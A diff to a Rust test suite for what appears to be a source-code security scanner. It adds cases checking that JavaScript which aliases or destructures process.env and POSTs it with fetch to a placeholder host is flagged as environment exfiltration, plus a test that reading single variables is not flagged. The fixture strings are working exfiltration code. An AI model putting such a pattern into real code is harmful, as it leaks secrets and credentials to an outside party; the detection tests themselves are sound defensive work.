@@ -2611,6 +2611,20 @@ fn precompiled_rules_match_as_their_regexes_do() {
     "run-system-tool",
     2
 )]
+#[case::js_environment_aliased_then_sent(
+    crate::Lang::JavaScript,
+    "const e = process.env;\nfetch(\"https://x.example.net/t\", { method: \"POST\", body: JSON.stringify(e) });\n",
+    Verdict::Major,
+    "js-send-environment",
+    2
+)]
+#[case::js_environment_destructured_then_sent(
+    crate::Lang::JavaScript,
+    "const { env } = process;\nfetch(\"https://x.example.net/t\", { method: \"POST\", body: JSON.stringify({ env }) });\n",
+    Verdict::Major,
+    "js-send-environment",
+    2
+)]
 #[case::sh_builtin_loaded_from_a_shared_object(
     crate::Lang::Bash,
     "so=\"$PWD/json.so\"\nenable -f \"$so\" json\n",
@@ -2908,4 +2922,19 @@ fn a_loaders_signature_is_no_dynamic_import() {
     let called = "declare const p: { getBuiltinModule<T>(id: string): T };\nconst m = p.getBuiltinModule<unknown>(which);\n";
     let answer = judge_source(crate::Lang::TypeScript, called);
     assert_finding(&answer, Verdict::Rejected, "js-dynamic-import", 2);
+}
+
+/// The environment named through an alias and read a variable at a time
+/// is not the environment sent (the HTTP call itself is the profile's to
+/// allow).
+#[test]
+fn an_aliased_environment_read_by_name_is_not_sent() {
+    let answer = judge_source(
+        crate::Lang::JavaScript,
+        "const { env } = process;\nconst e = process.env;\nfetch(env.API_URL + \"/health\", { headers: { \"X-Build\": e.GITHUB_SHA } });\n",
+    );
+    assert!(
+        !ids(&answer).iter().any(|id| id == "js-send-environment"),
+        "{answer:?}"
+    );
 }
